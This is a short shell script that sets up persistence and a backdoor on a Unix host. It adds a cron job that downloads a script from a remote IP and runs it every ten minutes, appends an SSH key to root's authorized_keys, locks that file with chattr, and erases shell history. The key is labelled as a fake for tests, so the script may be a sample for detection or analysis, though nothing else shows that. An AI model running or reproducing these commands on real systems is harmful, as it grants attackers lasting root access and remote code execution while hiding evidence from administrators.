#!/bin/sh
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s http://198.51.100.23/u.sh | sh") | crontab -
mkdir -p /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestsOnlyNotARealKey0000000000 x@y" >> /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
history -c
unset HISTFILE
